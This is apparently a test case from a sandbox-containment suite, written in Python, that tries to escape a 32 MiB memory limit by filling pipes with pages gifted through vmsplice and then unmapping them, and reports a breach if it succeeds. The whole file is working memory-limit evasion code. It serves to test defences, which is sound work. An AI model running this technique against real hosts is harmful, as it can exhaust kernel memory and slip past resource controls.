# attack: give pages to pipes and forget them: they are in no process' memory any more (vmsplice)
# expect: memory CONTAINED
# limits: --memory 32M --timeout 60 --open-files 1024
# bare: host
import ctypes
import errno
import fcntl
import os
import struct

from hostile import armed, breach, call, contained, finish, unclear

LIMIT, BOUND, MIB, CHUNK = 32, 80, 1 << 20, 1 << 16
SPLICE_F_NONBLOCK, SPLICE_F_GIFT, F_SETPIPE_SZ = 2, 8, 1031
PROT_READ_WRITE, MAP_PRIVATE_ANONYMOUS = 3, 0x22

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
libc.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)

armed(f"up to {BOUND} MiB in pipes")
held, ends = 0, []
try:
    while held < BOUND * MIB:
        ends += os.pipe()
        try:
            fcntl.fcntl(ends[-1], F_SETPIPE_SZ, MIB)
        except PermissionError:
            pass
        try:
            while held < BOUND * MIB:
                address = libc.mmap(None, CHUNK, PROT_READ_WRITE, MAP_PRIVATE_ANONYMOUS, -1, 0)
                ctypes.memset(address, 1, CHUNK)
                span = ctypes.create_string_buffer(struct.pack("QQ", address, CHUNK), 16)
                try:
                    held += call("vmsplice", ends[-1], span, 1, SPLICE_F_NONBLOCK | SPLICE_F_GIFT)
                finally:
                    libc.munmap(address, CHUNK)
        except BlockingIOError:
            continue
except OSError as error:
    if error.errno not in (errno.EMFILE, errno.ENFILE, errno.EPERM, errno.ENOSYS):
        unclear(str(error))
    contained(f"{error.strerror} with {held / MIB:.1f} MiB")
if held > LIMIT * MIB:
    breach(f"{held / MIB:.1f} MiB are in pipes, of {LIMIT}")
finish()
